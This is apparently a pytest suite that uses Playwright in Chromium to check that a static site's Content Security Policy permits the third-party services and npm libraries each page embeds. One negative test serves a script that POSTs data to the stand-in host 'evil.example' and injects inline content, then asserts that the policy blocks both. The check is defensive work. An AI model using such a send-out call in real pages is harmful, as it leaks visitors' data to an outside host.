"""What a page shows and runs under its policy, in Chromium: services by stand-ins, libraries from npm for real.

A stand-in loads and sends what the service's own script does, from the addresses that it uses; what the policy allows is
not looked at. Chromium asks the policy before the network, so that what is blocked is never asked for.
"""

import json
import mimetypes
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from plugins.hosting.services import SERVICES
from tests.conftest import Site, new_site
from tests.hosting.test_services import SNIPPETS

SCRIPT = "const s = document.createElement('script'); s.src = '{}'; document.head.append(s);"
STYLE = "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '{}'; document.head.append(l);"
PICTURE = "const i = new Image(); i.src = '{}'; document.body.append(i);"
FRAME = "const f = document.createElement('iframe'); f.src = '{}'; document.body.append(f);"
SEND = "fetch('{}', {{method: 'POST', body: 'x', mode: 'no-cors'}});"
WRITTEN = (
    "const e = document.createElement('style'); e.textContent = 'main {{ outline: 3px solid rgb(1, 2, 3) }}';"
    "document.head.append(e); const d = document.createElement('p'); d.innerHTML = '<b style=\"color: red\">x</b>';"
    "document.body.append(d); /* {} */"
)
STANDINS: dict[str, tuple[str, list[tuple[str, str]]]] = {  # service → its script, and what that does
    "goatcounter": ("https://gc.zgo.at/count.js", [
        (SEND, "https://me.goatcounter.com/count?p=/"), (PICTURE, "https://me.goatcounter.com/count?p=/&rnd=1"),
    ]),
    "plausible": ("https://plausible.io/js/script.outbound-links.js", [(SEND, "https://plausible.io/api/event")]),
    "google-analytics": ("https://www.googletagmanager.com/gtag/js?id=G-1", [
        (SEND, "https://region1.google-analytics.com/g/collect?v=2"), (SEND, "https://analytics.google.com/g/collect"),
        (PICTURE, "https://www.google-analytics.com/collect?v=1"), (SCRIPT, "https://www.googletagmanager.com/a?id=1"),
    ]),
    "cloudflare-analytics": ("https://static.cloudflareinsights.com/beacon.min.js", [
        (SEND, "https://cloudflareinsights.com/cdn-cgi/rum"),
    ]),
    "twitter": ("https://platform.twitter.com/widgets.js", [
        (SCRIPT, "https://platform.twitter.com/js/tweet.0123.js"), (WRITTEN, ""),
        (FRAME, "https://platform.twitter.com/embed/Tweet.html?id=1"),
        (PICTURE, "https://syndication.twitter.com/i/jot"), (PICTURE, "https://pbs.twimg.com/media/x.jpg"),
    ]),
    "disqus": ("https://me.disqus.com/embed.js", [
        (SCRIPT, "https://c.disquscdn.com/next/embed/lounge.bundle.0123.js"),
        (STYLE, "https://c.disquscdn.com/next/embed/styles/lounge.0123.css"), (WRITTEN, ""),
        (FRAME, "https://disqus.com/embed/comments/?base=default"),
        (PICTURE, "https://referrer.disqus.com/juggler/event.gif"), (SEND, "https://links.services.disqus.com/api/ping"),
    ]),
    "giscus": ("https://giscus.app/client.js", [
        (STYLE, "https://giscus.app/default.css"), (FRAME, "https://giscus.app/en/widget?origin=x"),
    ]),
    "utterances": ("https://utteranc.es/client.js", [(WRITTEN, ""), (FRAME, "https://utteranc.es/utterances.html")]),
    "calendly": ("https://assets.calendly.com/assets/external/widget.js", [
        (STYLE, "https://assets.calendly.com/assets/external/widget.css"), (FRAME, "https://calendly.com/me/30min"),
        (PICTURE, "https://assets.calendly.com/assets/external/close-icon.svg"), (WRITTEN, ""),
    ]),
    "clustrmaps": ("https://cdn.clustrmaps.com/map_v2.js?d=x", [
        (PICTURE, "https://www.clustrmaps.com/map_v2.png?d=x"), (SEND, "https://clustrmaps.com/counter"), (WRITTEN, ""),
    ]),
    "altmetric": ("https://d1bxh8uas1mnw7.cloudfront.net/assets/embed.js", [
        (SCRIPT, "https://api.altmetric.com/v1/doi/10.1?callback=f"), (WRITTEN, ""),
        (STYLE, "https://d1bxh8uas1mnw7.cloudfront.net/assets/embed-0123.css"),
        (PICTURE, "https://badges.altmetric.com/?size=180&score=3"),
    ]),
    "dimensions": ("https://badge.dimensions.ai/badge.js", [
        (SEND, "https://metrics-api.dimensions.ai/doi/10.1"), (STYLE, "https://badge.dimensions.ai/badge.css"),
        (WRITTEN, ""),
    ]),
    "font-awesome": ("https://kit.fontawesome.com/0123456789.js", [
        (STYLE, "https://ka-f.fontawesome.com/releases/v6.7.2/css/free.min.css"), (WRITTEN, ""),
        (SEND, "https://ka-f.fontawesome.com/releases/v6.7.2/css/free-v4-shims.min.css"),
    ]),
}  # fmt: skip
LIBRARIES = {  # HTML on the page, and what shows that the library has done its work
    "mathjax": ('<p>\\(x^2\\)</p>' + SNIPPETS["mathjax"], "document.querySelector('mjx-container svg, mjx-math')"),
    "mathjax as pictures": (
        "<p>\\(x^2\\)</p><script async src='https://cdn.jsdelivr.net/npm/mathjax@3/es5/tex-svg.js'></script>",
        "document.querySelector('mjx-container svg')",
    ),
    "katex": (
        "<p>\\(x^2\\)</p><link rel='stylesheet' href='https://cdn.jsdelivr.net/npm/katex@0.19.1/dist/katex.min.css'>"
        "<script defer src='https://cdn.jsdelivr.net/npm/katex@0.19.1/dist/katex.min.js'></script>"
        "<script defer src='https://cdn.jsdelivr.net/npm/katex@0.19.1/dist/contrib/auto-render.min.js'></script>"
        "<script>addEventListener('load', () => renderMathInElement(document.body))</script>",
        "document.querySelector('.katex-html') && document.fonts.check('16px KaTeX_Main')"
        " && [...document.fonts].some(f => f.family === 'KaTeX_Math' && f.status === 'loaded')",
    ),
    "mermaid": (
        "<pre class='mermaid'>graph TD; A-->B</pre>\n<script type='module'>"
        "import mermaid from 'https://cdn.jsdelivr.net/npm/mermaid@12/dist/mermaid.esm.min.mjs';"
        "mermaid.initialize({startOnLoad: true});</script>",
        "document.querySelector('.mermaid svg .node rect')"
        " && getComputedStyle(document.querySelector('.mermaid svg .node rect')).fill !== 'rgb(0, 0, 0)'",
    ),
    "academicons": (
        "<link rel='stylesheet' href='https://cdn.jsdelivr.net/npm/academicons@1/css/academicons.min.css'>"
        "<i class='ai ai-google-scholar'></i>",
        "[...document.fonts].some(f => /academicons/i.test(f.family) && f.status === 'loaded')",
    ),
}  # fmt: skip
FONT_CSS = "@font-face {font-family: T; src: url(https://fonts.gstatic.com/s/lora/x.woff2)} main {font-family: T}"


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build one site with a page for each service and library; return its output."""
    site: Site = new_site(tmp_path_factory.mktemp("policies") / "site")
    site.write("content/pages/home.md", "---\npermalink: /\ntitle: Home\n---\nHello.\n")
    held = {name: SNIPPETS[name] for name in [*STANDINS, "google-fonts"]}
    held |= {name: html for name, (html, _) in LIBRARIES.items()}
    for number, (name, html) in enumerate(held.items()):
        head = f"---\npermalink: {json.dumps(address(name))}\ntitle: {name}\n---\n"
        site.write(f"content/pages/p{number}.md", f"{head}<div markdown='0'>\n{html}\n</div>\n")
    built = site.build()
    assert built.lines == []
    return built.output


def address(name: str) -> str:
    """Return the address of the page of a service or library."""
    return f"/{name.replace(' ', '-')}/"


class Visit:
    """One page in Chromium: what its console said, and what it asked of others."""

    def __init__(self, browser: Any, output: Path, answer: Callable[[str], tuple[str, bytes]]) -> None:
        """Open a page whose site is a folder, and for which ``answer`` stands in for all other hosts."""
        self.said: list[str] = []
        self.asked: list[str] = []
        self.output = output
        self.answer = answer
        self.page = browser.new_context().new_page()
        self.page.on("console", lambda message: self.said.append(message.text))
        self.page.on("pageerror", lambda error: self.said.append(str(error)))
        self.page.route("**/*", self.reply)

    def reply(self, route: Any) -> None:
        """Answer one request."""
        url = str(route.request.url)
        if url.startswith("https://me.test/"):
            path = url.removeprefix("https://me.test/")
            file = self.output / path / "index.html" if path.endswith("/") or not path else self.output / path
            kind, body = ("text/html", file.read_bytes()) if file.is_file() else ("text/plain", b"")
        else:
            self.asked.append(url)
            kind, body = self.answer(url)
        route.fulfill(status=200, content_type=kind, body=body, headers={"access-control-allow-origin": "*"})

    def blocked(self) -> list[str]:
        """Return what the console says of the policy."""
        return [text for text in self.said if "Content Security Policy" in text or "TrustedHTML" in text]


@pytest.mark.parametrize("service", STANDINS)
def test_a_service_works_under_the_policy_of_its_page(browser: Any, pages: Path, service: str) -> None:
    script, does = STANDINS[service]

    def answer(url: str) -> tuple[str, bytes]:
        if url == script:
            return "text/javascript", "".join(f"{{{code.format(what)}}}" for code, what in does).encode()
        return mimetypes.guess_type(url.partition("?")[0])[0] or "text/html", b""

    visit = Visit(browser, pages, answer)
    visit.page.goto(f"https://me.test{address(service)}", wait_until="networkidle")
    assert visit.blocked() == []
    assert {url for url in [script, *(what for _, what in does)] if url} <= set(visit.asked)
    if any(code == WRITTEN for code, _ in does):
        outline = "getComputedStyle(document.querySelector('main')).outlineColor"
        assert visit.page.evaluate(outline) == "rgb(1, 2, 3)"
        assert visit.page.evaluate("getComputedStyle(document.querySelector('p b')).color") == "rgb(255, 0, 0)"


def test_a_font_service_works_under_the_policy_of_its_page(browser: Any, pages: Path) -> None:
    def answer(url: str) -> tuple[str, bytes]:
        return ("text/css", FONT_CSS.encode()) if "googleapis" in url else ("font/woff2", b"")

    visit = Visit(browser, pages, answer)
    visit.page.goto(f"https://me.test{address('google-fonts')}", wait_until="networkidle")
    assert visit.blocked() == []
    assert "https://fonts.gstatic.com/s/lora/x.woff2" in visit.asked


@pytest.mark.parametrize("library", LIBRARIES)
def test_a_library_works_under_the_policy_of_its_page(
    browser: Any, pages: Path, npm: Callable[[str], Path], library: str
) -> None:
    """Its real files, as npm has them, at the addresses of jsDelivr."""

    def answer(url: str) -> tuple[str, bytes]:
        name, _, path = url.partition("/npm/")[2].partition("/")
        file = npm(name.partition("@")[0]) / path
        kind = {".mjs": "text/javascript", ".woff2": "font/woff2"}.get(file.suffix)
        return kind or mimetypes.guess_type(file.name)[0] or "text/plain", file.read_bytes()

    visit = Visit(browser, pages, answer)
    visit.page.goto(f"https://me.test{address(library)}", wait_until="networkidle")
    visit.page.wait_for_function(f"() => {{ return {LIBRARIES[library][1]} }}", timeout=20_000)
    assert visit.blocked() == []


def test_what_is_not_allowed_is_blocked(browser: Any, pages: Path) -> None:
    """So that the tests above would notice."""

    def answer(url: str) -> tuple[str, bytes]:
        return "text/javascript", (SEND.format("https://evil.example/") + "{" + WRITTEN.format("") + "}").encode()

    visit = Visit(browser, pages, answer)
    visit.page.goto(f"https://me.test{address('giscus')}", wait_until="networkidle")
    assert len(visit.blocked()) >= 3
    assert "https://evil.example/" not in visit.asked


def test_every_service_is_tried_here() -> None:
    real = {"mathjax", "katex", "mermaid", "academicons"}
    assert {*STANDINS, "google-fonts", *real} == set(SERVICES) - {"mathjax-2"}  # which npm's MathJax 3 is not
